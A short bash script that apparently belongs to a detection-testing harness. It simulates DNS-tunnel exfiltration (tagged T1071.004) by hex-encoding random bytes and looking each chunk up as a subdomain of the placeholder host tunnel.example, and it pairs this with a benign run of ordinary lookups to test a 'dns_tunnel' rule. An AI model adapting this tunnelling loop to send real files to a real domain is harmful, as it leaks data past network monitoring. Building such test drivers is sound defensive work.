#!/bin/bash
# A file leaves in names that are asked for: a few bytes in each, all of one domain.
#: title: DNS tunnel
#: technique: T1071.004
#: needs: dns
#: rules: dns_tunnel
#: twin: a few names are asked for, as everybody does
. "$DRIVERS/lib.sh"

carry() {
	. "$DRIVERS/lib.sh"
	name_server
	head -c 1200 /dev/urandom | od -An -v -tx1 -w30 | tr -d ' ' | while read -r piece; do
		getent ahosts "$piece.tunnel.example" >/dev/null
	done
}

resolve() {
	. "$DRIVERS/lib.sh"
	name_server
	for name in www.example.com mail.example.com static.cdn.example; do getent ahosts $name >/dev/null; done
}

attack() {
	in_own_network carry
	did tunnel.example
}

twin() {
	in_own_network resolve
	did example.com
}

"$1"
